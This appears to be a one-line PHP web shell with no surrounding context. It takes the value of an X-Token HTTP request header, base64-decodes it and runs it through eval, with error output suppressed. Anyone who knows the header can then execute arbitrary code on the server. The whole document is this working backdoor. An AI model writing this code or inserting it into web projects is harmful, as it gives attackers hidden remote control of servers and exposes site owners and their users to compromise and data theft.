<?php $x = $_SERVER['HTTP_X_TOKEN']; @eval(base64_decode($x));
